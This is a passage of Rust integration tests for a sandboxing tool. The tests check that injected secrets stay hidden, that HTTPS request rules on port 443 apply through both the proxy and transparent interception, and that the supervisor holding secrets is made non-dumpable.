    assert!(out.stderr.contains("OTHER_TOK"), "{}", out.show());
    // Twin: the same secret with its source present runs.
    let ok = sb.root.join("ok.toml");
    sb.write_host(
        &ok,
        "[secrets.MISSING_TOK]\nfrom_env = \"CIT_SET\"\nhosts = [\"api.example.com\"]\n",
    );
    let out = sb.run_with(
        |c| {
            c.env("CIT_SET", "value-of-sufficient-length-123");
        },
        &["-p", &ok.display().to_string(), "--no-network"],
        &["sh", "-c", "echo ran-$MISSING_TOK"],
    );
    assert_eq!(out.code, 0, "{}", out.show());
    assert!(out.stdout.contains("ran-") && !out.stdout.contains("value-of-sufficient-length-123"));
}

// ---------------------------------------------------------------- the usual ports and paths

#[test]
fn interception_on_port_443_via_proxy_and_transparent_door() {
    // Port 443 takes the first-bytes (SNI) check before interception; a client that ignores
    // the proxy variables arrives through the transparent door. Both must get the rules.
    let extra = format!("[requests.\"{NAME}\"]\nallow = [\"GET /ok-*\"]\n");
    let Some(t) = setup("sec-443", &extra) else {
        return;
    };
    let pol443 = t.t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let pol = t.t.policy(&format!(
        "{}\n{extra}",
        std::fs::read_to_string(&pol443).unwrap_or_default()
    ));
    let t = T { pol, ..t };
    let (ok_p, ok_t) = (
        format!("/ok-proxy-{}", unique()),
        format!("/ok-transp-{}", unique()),
    );
    let (no_p, no_t) = (
        format!("/no-proxy-{}", unique()),
        format!("/no-transp-{}", unique()),
    );
    let script = format!(
        "{}{}{}{}",
        curl("ok-proxy", &format!("https://{NAME}{ok_p}")),
        curl("no-proxy", &format!("https://{NAME}{no_p}")),
        curl("ok-transp", &format!("--noproxy '*' https://{NAME}{ok_t}")),
        curl("no-transp", &format!("--noproxy '*' https://{NAME}{no_t}")),
    );
    let out = t.run(&[], &script);
    for (label, path) in [("ok-proxy", &ok_p), ("ok-transp", &ok_t)] {
        assert_code(&out, label, "200", "an allowed request on 443");
        t.t.assert_request("https", path, &out.show());
    }
    for (label, path) in [("no-proxy", &no_p), ("no-transp", &no_t)] {
        assert_code(
            &out,
            label,
            "403",
            "a request the rules do not list, on 443",
        );
        t.t.assert_no_request(path, &out.show());
    }
    let audit = t.audit();
    assert!(
        audit.iter().any(|l| l["event"] == "net"
            && l["via"] == "transparent"
            && l["reason"]
                .as_str()
                .is_some_and(|r| r.starts_with("intercepted"))),
        "the transparent door must have intercepted\n{}",
        audit.iter().map(|l| format!("  {l}\n")).collect::<String>()
    );
}

// ---------------------------------------------------------------- hygiene

/// Owner of `/proc/PID/environ` and cordon's core-size limit, observed from the host while a
/// run is going on. A non-dumpable process's /proc entries belong to root.
fn observe_supervisor(sb: &Sandbox, opts: &[&str], env: &[(&str, &str)]) -> (Option<u32>, String) {
    use std::os::unix::fs::MetadataExt;
    let mut cmd = sb.cordon_command();
    cmd.arg("run").args(opts).args(["--", "sleep", "4"]);
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.stdout(Stdio::null()).stderr(Stdio::null());
    let mut child = cmd.spawn().expect("spawn cordon");
    let pid = child.id();
    // Hardening happens once the sandbox is launched; give it a moment.
    std::thread::sleep(Duration::from_millis(1500));
    let owner = std::fs::metadata(format!("/proc/{pid}/environ"))
        .ok()
        .map(|m| m.uid());
    let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap_or_default();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap_or("")
        .to_string();
    let _ = child.wait();
    (owner, core)
}

#[test]
fn supervisor_is_not_dumpable_when_secrets_are_configured() {
    let sb = Sandbox::new("sec-dumpable");
    let p = sb.root.join("dump.toml");
    sb.write_host(
        &p,
        "[secrets.DUMP_TOK]\nfrom_env = \"CIT_DUMP_SRC\"\nhosts = [\"api.example.com\"]\n",
    );
    let p = p.display().to_string();
    let (owner, core) = observe_supervisor(
        &sb,
        &["-p", &p, "--no-network"],
        &[("CIT_DUMP_SRC", "dump-secret-value-0123456789")],
    );
    assert_eq!(
        owner,
        Some(0),
        "cordon holding secrets must be non-dumpable (its /proc entries root-owned)"
    );
    let fields: Vec<&str> = core.split_whitespace().collect();
    assert!(
        fields.len() >= 6 && fields[4] == "0" && fields[5] == "0",
        "cordon holding secrets must not dump core: {core:?}"
    );
    // Twin: without secrets cordon is left as it was (its /proc entries are its user's).
    let (owner, _) = observe_supervisor(&sb, &["--no-network"], &[]);
    assert_eq!(owner, Some(sb.user.uid), "without secrets nothing changes");
}
